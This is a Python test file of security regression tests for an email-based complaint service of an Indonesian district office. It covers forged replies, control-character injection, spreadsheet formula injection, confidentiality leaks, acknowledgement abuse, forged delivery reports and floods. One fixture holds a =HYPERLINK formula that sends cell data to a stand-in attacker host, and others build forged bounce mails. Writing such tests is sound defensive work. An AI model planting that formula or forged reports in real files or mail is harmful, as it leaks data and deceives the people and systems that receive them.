"""Attacks on the running service over the real rig, each one a hole that was open once:
leaked tokens, forged delivery reports, floods, confidentiality leaks, acknowledgement abuse."""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import io
import json
import zipfile
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

from jobs.outgoing import send_outbox
from office.deadlines import check_deadlines
from sop.book import iso
from tests.helpers import start
from tests.test_sop_over_mail import through


def _make_late(env, number: str) -> dt.datetime:
    """Make the open task of `number` late and run the sweep at a moment in office hours."""
    task = env.office.book.tasks.current(env.complaint(number)["id"])
    monday = dt.datetime(2026, 12, 7, 8, 0, tzinfo=env.config.clock.tz)
    env.office.book.conn.execute(
        "UPDATE tasks SET opened_at = ?, due_at = ?, next_nudge_at = ? WHERE id = ?",
        (iso(monday), iso(monday + dt.timedelta(minutes=10)), iso(monday), task["id"]))
    env.office.book.conn.commit()
    moment = monday + dt.timedelta(hours=2)
    assert check_deadlines(env.office, moment)
    send_outbox(env.office, moment)
    return moment


def _answer(env, notice, sender: str, text: str, references: tuple[str, ...] = ()) -> None:
    """A reply to one of our notices, as a mail app writes it (or a forger copies it)."""
    msg = EmailMessage()
    msg["From"], msg["To"] = sender, env.cast.office
    msg["Subject"], msg["Message-ID"] = "Re: " + notice.subject, make_msgid()
    msg["In-Reply-To"] = notice.headers["message-id"][0]
    msg["References"] = " ".join([*references, notice.headers["message-id"][0]])
    msg.set_content(text)
    env.rig.send(msg)
    env.cycle()


def _late_notice(env, address: str):
    [late] = [m for m in env.inbox(address) if "Melewati batas waktu" in m.subject]
    return late


def test_a_late_notice_to_staff_carries_no_token_and_a_forged_reply_to_it_acts_on_nothing(env):
    number = start(env)
    task = env.office.book.tasks.current(env.complaint(number)["id"])
    _make_late(env, number)
    late = _late_notice(env, env.official("jfu")[1])
    assert task["token"] not in late.obj.as_string().lower()
    assert task["token"] not in _late_notice(env, env.official("camat")[1]).obj.as_string().lower()
    # Staff quote the late notice under a forged From of the Sekretaris.
    _answer(env, late, env.official("sekretaris")[1], "Tolak: bukan kewenangan kecamatan",
            tuple(late.headers.get("references", ())))
    row = env.complaint(number)
    assert row["state"] == "open" and row["step"] == 2
    assert not [m for m in env.inbox(env.cast.citizens[0][1]) if "ditolak" in m.subject.lower()]


def test_the_camat_answering_a_late_notice_leaves_a_note_for_the_holder_not_a_warning(env):
    number = start(env)
    _make_late(env, number)
    late = _late_notice(env, env.official("camat")[1])
    _answer(env, late, env.official("camat")[1], "Mohon segera diselesaikan hari ini.\n\n> kutipan")
    send_outbox(env.office, dt.datetime.now(dt.timezone.utc))
    row = env.complaint(number)
    assert row["step"] == 2
    notes = [e["text"] for e in env.office.book.events.of(row["id"]) if e["kind"] == "catatan"]
    assert any("Mohon segera diselesaikan hari ini." in n for n in notes)
    sekretaris = env.inbox(env.official("sekretaris")[1])
    assert not [m for m in sekretaris if "tidak diterima" in m.subject]
    [note] = [m for m in sekretaris if "Catatan dari Camat" in m.subject]
    assert "Mohon segera diselesaikan hari ini." in note.text
    assert [m for m in env.inbox(env.official("camat")[1]) if "Catatan Bapak/Ibu dicatat" in m.subject]


# B is in tests/test_sop_over_mail.py (the rig's receiving server writes the verdict) and in
# tests/test_keywords_clock_auth.py (the parser and the trust boundary).


# C. Control characters never reach a letter, a report or a calendar file ---------------------
def _raw_complaint(env, subject: str, name: str, body: str = "Isi\x07 pengaduan\x0b.") -> str:
    """A complaint whose subject and name carry any code points, in RFC 2047 encoded words
    (what a mail library refuses to build, an attacker writes by hand)."""
    from email.header import Header

    raw = (f"From: {Header(name, 'utf-8').encode()} <warga.kendali@warga.test>\r\nTo: {env.cast.office}\r\n"
           f"Subject: {Header(subject, 'utf-8').encode()}\r\nMessage-ID: {make_msgid()}\r\nMIME-Version: 1.0\r\n"
           f"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
           ).encode() + base64.encodebytes(body.encode("utf-8", "surrogatepass")).replace(b"\n", b"\r\n")
    _submit(env, raw, "warga.kendali@warga.test")
    env.cycle()
    return env.office.book.complaints.listed()[-1]["number"]


def test_a_control_character_in_a_subject_adds_no_paragraph_to_a_sealed_letter(env):
    from docx import Document

    from letters.render import letter_text
    from letters.verify import verify_docx

    injected = "Jalan rusak\x07Camat Palaran MENYETUJUI ganti rugi Rp 50.000.000\x0b\x01\x0c"
    number = _raw_complaint(env, injected, "Warga\x07 Baik\x0b")
    row = env.complaint(number)
    assert "\x07" not in row["subject"] and "\x0b" not in row["subject"] and "\x01" not in row["subject"]
    through(env, number, ("sekretaris", 2, "Klarifikasi.\nSeksi: Pemerintahan"),
            ("camat", 3, "Diperbaiki minggu ini."), ("sekretaris", 4, "Jalan akan diperbaiki\x07minggu ini."),
            ("camat", "4a", "Setuju"))
    row = env.complaint(number)
    data = Path(row["letter_path"]).read_bytes()
    doc = Document(io.BytesIO(data))  # Word and LibreOffice open what python-docx opens
    paragraphs = [p.text for p in doc.paragraphs if "MENYETUJUI" in p.text]
    assert paragraphs  # the subject is quoted in the opening sentence ...
    # ... in one run, not its own paragraph (the perihal is written in the sentence: "jalan rusak")
    assert all(p.index("MENYETUJUI") > p.lower().index("jalan rusak") for p in paragraphs)
    assert "\x07" not in letter_text(data) and "\x0b" not in letter_text(data)
    key = env.office.seal_key().public_key()
    from letters.seal import key_id

    assert verify_docx(data, {key_id(key): key}).valid


def test_the_calendar_file_holds_any_text(env):
    from icalendar import Calendar

    from office.meetings import invitation
    from sop.engine import Meeting

    number = _raw_complaint(env, "Rapat\x01\x0c soal \x1b[31m jalan", "Budi")
    row = env.complaint(number)
    row = dataclasses.replace(row, subject="x\x01\x0b\x1f\x7f\x85 y")  # as an old book might hold it
    ics = invitation(env.office, row, Meeting(dt.datetime(2026, 12, 8, 9, 0, tzinfo=env.config.clock.tz),
                                              ("camat",), number), [("Budi\x01", "budi@x.test")],
                     dt.datetime.now(dt.timezone.utc))
    event = Calendar.from_ical(ics).walk("VEVENT")[0]
    assert not any(ch in str(event["description"]) for ch in "\x01\x0b\x1f\x7f\x85")


# D. The book export writes citizen text as text ---------------------------------------------
FORMULA = '=HYPERLINK("http://jahat.test/?d="&C2&D2,"Klik")'


def test_the_export_never_stores_a_formula_and_survives_control_characters(env, tmp_path):
    import csv

    from openpyxl import load_workbook

    from office.reports import export_book

    start(env, subject=FORMULA)
    _raw_complaint(env, "@SUM(1+1)\x01 dengan kendali", "+62812 Warga\x0b")
    env.office.book.conn.execute("UPDATE complaints SET subject = subject || ?", ("\x01\x1f",))
    env.office.book.conn.commit()
    xlsx = tmp_path / "buku.xlsx"
    assert export_book(env.office, xlsx) == 2
    sheet = load_workbook(xlsx).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value.startswith("=HYPERLINK") and c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert b"<f>" not in zipfile.ZipFile(xlsx).read("xl/worksheets/sheet1.xml")
    path = tmp_path / "buku.csv"
    export_book(env.office, path)
    with path.open(encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))[1:]
    assert rows and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert any(cell.startswith("'" + FORMULA) for row in rows for cell in row)


# E. A confidential complaint never reaches a section head --------------------------------------
def test_a_confidential_complaint_reaches_the_section_head_only_as_the_clarification(env):
    from email import message_from_bytes

    citizen = ("", "siti.aminah@warga.test")  # no display name: only the address names her
    secrets = ["Siti Aminah", "siti.aminah@warga.test", "3172034509870001", "0812-3456-7890",
               "Jl. Mawar No. 7 RT 03", "Bu Imah"]
    body = ("Saya Siti Aminah (dipanggil Bu Imah), NIK 3172034509870001, HP 0812-3456-7890, "
            "tinggal di Jl. Mawar No. 7 RT 03. Pungutan liar di kantor kelurahan.")
    start_msg = EmailMessage()
    start_msg["From"], start_msg["To"] = citizen[1], env.cast.office
    start_msg["Subject"], start_msg["Message-ID"] = "Pungli oleh Siti Aminah punya tetangga", make_msgid()
    start_msg.set_content(body)
    start_msg.add_attachment(b"foto", maintype="image", subtype="jpeg", filename="ktp-siti-aminah.jpg")
    env.rig.send(start_msg)
    env.cycle()
    number = env.office.book.complaints.listed()[-1]["number"]
    through(env, number, ("sekretaris", 2, "Dugaan pungutan liar pada layanan surat pengantar; perlu dicek "
                                           "ke kelurahan.\nSeksi: Pemerintahan\nRahasia: ya\n"
                                           "Pokok: Dugaan pungutan liar layanan surat pengantar"),
            ("camat", 3, "Rapat: ya, 14-12-2026 09.00\nDibahas dalam rapat."))
    kasi = next(s for s in env.config.directory.sections if s.name == "Seksi Pemerintahan").email
    received = env.inbox(kasi)
    assert len(received) >= 2  # the copy and the invitation
    for mail in received:
        raw = mail.obj.as_bytes()
        whole = "\n".join(part.get_payload(decode=True).decode("utf-8", "replace")
                          for part in message_from_bytes(raw).walk() if not part.is_multipart())
        whole += mail.subject
        for secret in secrets:
            assert secret.lower() not in whole.lower(), (mail.subject, secret)
        assert "ktp-siti-aminah" not in whole
    copy = next(m for m in received if "Untuk diketahui" in m.subject)
    assert "Dugaan pungutan liar pada layanan surat pengantar" in copy.text
    assert "Dugaan pungutan liar layanan surat pengantar" in copy.text
    # The Camat (who decides) still sees the complaint as it came.
    camat = env.routing("camat", number, 3)
    assert "Jl. Mawar No. 7 RT 03" in camat.text


# F. Acknowledgements are limited by the mailbox that receives them, and quote nothing abroad --
def test_acknowledgements_aimed_at_another_mailbox_are_limited_and_quote_nothing(env):
    victim = "korban@warga.test"
    for i in range(10):
        msg = EmailMessage()
        msg["From"], msg["To"] = "penyerang@jahat.test", env.cast.office
        msg["Reply-To"] = f"Korban+{i}@warga.test"
        msg["Subject"], msg["Message-ID"] = f"KLIK http://jahat.test/{i}", make_msgid()
        msg.set_content("Beli sekarang di http://jahat.test")
        env.rig.send(msg)
    env.cycle()
    acks = env.inbox(victim)
    assert len(acks) == env.config.intake.ack_per_hour  # sub-addresses are one mailbox
    assert all("jahat.test" not in m.text and "KLIK" not in m.text for m in acks)
    assert len(env.office.book.complaints.listed()) == 10  # nothing dropped: all in the book


# G. Forged delivery reports and floods -------------------------------------------------------
def _dsn(env, returned_id: str, recipient: str) -> bytes:
    return (f"From: MAILER-DAEMON@mx.warga.test\r\nTo: {env.cast.office}\r\nSubject: Undelivered\r\n"
            f"Auto-Submitted: auto-replied\r\nMessage-ID: {make_msgid()}\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: multipart/report; report-type=delivery-status; boundary=\"R\"\r\n\r\n"
            f"--R\r\nContent-Type: text/plain\r\n\r\nGagal.\r\n--R\r\nContent-Type: message/delivery-status\r\n\r\n"
            f"Reporting-MTA: dns; mx.warga.test\r\n\r\nFinal-Recipient: rfc822; {recipient}\r\nAction: failed\r\n"
            f"Status: 5.1.1\r\n--R\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: {returned_id}\r\n--R--\r\n"
            ).encode()


def _submit(env, raw: bytes, envelope_from: str, to: str | None = None) -> None:
    import smtplib

    with smtplib.SMTP("127.0.0.1", env.rig.smtp_port) as smtp:
        smtp.sendmail(envelope_from, [to or env.cast.office], raw)


def _return_path(env, mail: dict) -> str:
    """The return path (VERP) a mail of ours went with: where a real report about it comes."""
    return env.config.identity.bounce_address(mail["bounce_token"])


def test_a_forged_delivery_report_marks_no_one_unreachable(env):
    number = start(env)
    row = env.complaint(number)
    ack = next(r for r in env.office.book.outbox.listed() if r["kind"] == "tanda_terima")
    staff = env.official("jfu")[1]
    before = len(env.inbox(staff))
    # From a citizen's own server (a return path), naming the real acknowledgement.
    _submit(env, _dsn(env, ack["message_id"], row["email"]), "penyerang@jahat.test")
    # From a mail system, but for another recipient than the mail went to.
    _submit(env, _dsn(env, ack["message_id"], "orang.lain@warga.test"), "")
    # From a mail system, for the right recipient, but a Message-ID we never sent.
    _submit(env, _dsn(env, f"<tanda-terima.{'a' * 24}.pgd@{env.cast.domain}>", row["email"]), "")
    env.cycle()
    assert not [e for e in env.office.book.events.of(row["id"]) if e["kind"] == "gagal_kirim"]
    assert len(env.inbox(staff)) == before
    # The real one, to the acknowledgement's own return path, still counts.
    _submit(env, _dsn(env, ack["message_id"], row["email"]), "", _return_path(env, ack))
    env.cycle()
    assert [e for e in env.office.book.events.of(row["id"]) if e["kind"] == "gagal_kirim"]


def test_twenty_real_reports_make_one_alert_and_one_digest(env):
    from office.notices import send_digests

    for i in range(4):
        start(env, i % len(env.cast.citizens))
    acks = [r for r in env.office.book.outbox.listed() if r["kind"] == "tanda_terima"]
    for i in range(20):
        ack = acks[i % len(acks)]
        _submit(env, _dsn(env, ack["message_id"], json.loads(ack["recipients"])[0]), "", _return_path(env, ack))
    env.cycle()
    staff = env.official("jfu")[1]
    alerts = [m for m in env.inbox(staff) if "Surel tidak terkirim" in m.subject]
    assert len(alerts) == 1
    assert len(env.office.book.digest.pending()) == 19
    later = dt.datetime.now(dt.timezone.utc) + dt.timedelta(minutes=61)
    assert send_digests(env.office, later) == 1 and send_digests(env.office, later) == 0
    send_outbox(env.office, later)
    [digest] = [m for m in env.inbox(staff) if "Ringkasan pemberitahuan" in m.subject]
    assert digest.text.count("Surel tidak terkirim") == 19


def test_a_burst_from_one_sender_is_held_for_staff_and_released_by_command(env):
    from tests.test_cli import pengaduan

    limit = env.config.intake.hold_after
    for i in range(limit + 5):
        msg = EmailMessage()
        msg["From"], msg["To"] = "banjir@warga.test", env.cast.office
        msg["Subject"], msg["Message-ID"] = f"Pengaduan ke-{i}", make_msgid()
        msg.set_content("Isi.")
        env.rig.send(msg)
    env.cycle()
    book = env.office.book
    assert len(book.complaints.listed()) == limit + 5  # nothing dropped
    held = book.complaints.held()
    assert len(held) == 5 and all(r["step"] == 1 for r in held)
    sekretaris = env.inbox(env.official("sekretaris")[1])
    assert len([m for m in sekretaris if "Tugas langkah 2" in m.subject]) == limit
    told = [m for m in env.inbox(env.official("jfu")[1]) if "ditahan" in m.subject]
    assert len(told) == 1 and "pengaduan lepas --pengirim banjir@warga.test" in told[0].text
    listing = pengaduan("--config", str(env.config_path), "lepas")
    assert listing.returncode == 0 and held[0]["number"] in listing.stdout
    out = pengaduan("--config", str(env.config_path), "lepas", "--pengirim", "banjir@warga.test")
    assert out.returncode == 0, out.stderr
    assert not book.complaints.held()
    assert all(r["step"] == 2 for r in book.complaints.listed())


# H. Smaller defects -------------------------------------------------------------------------
def test_a_sender_with_an_address_literal_is_recorded_not_quarantined(env):
    msg = EmailMessage()
    msg["From"], msg["To"] = "Budi <x@[127.0.0.1]>", env.cast.office
    msg["Subject"], msg["Message-ID"] = "Lampu mati", make_msgid()
    msg.set_content("Lampu jalan mati.")
    env.rig.send(msg)
    env.cycle()
    [row] = env.office.book.complaints.listed()
    assert row["name"] == "Budi" and row["email"] is None and row["step"] == 2
    assert not env.office.book.messages.listed("quarantine")


def test_a_keyword_line_of_another_step_is_not_printed_in_the_letter(env):
    from letters.render import letter_text

    number = start(env)
    through(env, number, ("sekretaris", 2, "Klarifikasi.\nSeksi: Pemerintahan"), ("camat", 3, "Diperbaiki."),
            ("sekretaris", 4, "Jalan diperbaiki minggu depan.\nTolak: bukan kewenangan\nRahasia: ya"), ("camat", "4a", "Setuju"))
    row = env.complaint(number)
    text = letter_text(Path(row["letter_path"]))
    # The one point joins the opening sentence ("… bahwa jalan diperbaiki minggu depan.").
    assert "jalan diperbaiki minggu depan." in text.lower() and "Tolak" not in text and "Rahasia" not in text
    notes = [e["text"] for e in env.office.book.events.of(row["id"]) if e["kind"] == "catatan"]
    assert any("diabaikan" in n and "Tolak: bukan kewenangan" in n for n in notes)


def test_a_usual_abbreviation_or_a_configured_alias_names_the_section():
    from sop.keywords import match_section

    sections = (("Seksi Ketenteraman dan Ketertiban Umum", ()), ("Seksi Pemerintahan", ("Tapem",)),
                ("Seksi Kesejahteraan Sosial", ("Seksi Sosial",)), ("Seksi Perekonomian", ("Ekonomi", "Kopi")))
    assert match_section("Trantib", sections) == "Seksi Ketenteraman dan Ketertiban Umum"
    assert match_section("Seksi Trantibum", sections) == "Seksi Ketenteraman dan Ketertiban Umum"
    assert match_section("ketentraman", sections) == "Seksi Ketenteraman dan Ketertiban Umum"
    assert match_section("tapem", sections) == "Seksi Pemerintahan"
    assert match_section("Kesos", sections) == "Seksi Kesejahteraan Sosial"
    assert match_section("kopi", sections) == "Seksi Perekonomian"
    assert match_section("Seksi Pertanian", sections) is None


def test_doctor_says_when_the_receiving_server_could_check_replies_but_the_office_does_not(env):
    from jobs.demo.mailrig import ReceivingCheck
    from tests.test_cli import pengaduan

    start(env)  # no receiving server check yet
    out = pengaduan("--config", str(env.config_path), "doctor").stdout
    assert "docs/DEPLOY.md" in out and "keaslian balasan" in out
    ours = f"mx.{env.cast.domain}"
    env.rig.checks[env.cast.domain] = ReceivingCheck(ours)
    try:
        start(env, 1)
    finally:
        env.rig.checks.pop(env.cast.domain, None)
    out = pengaduan("--config", str(env.config_path), "doctor").stdout
    assert f'authserv_id = "{ours}"' in out and "require_authentication = true" in out
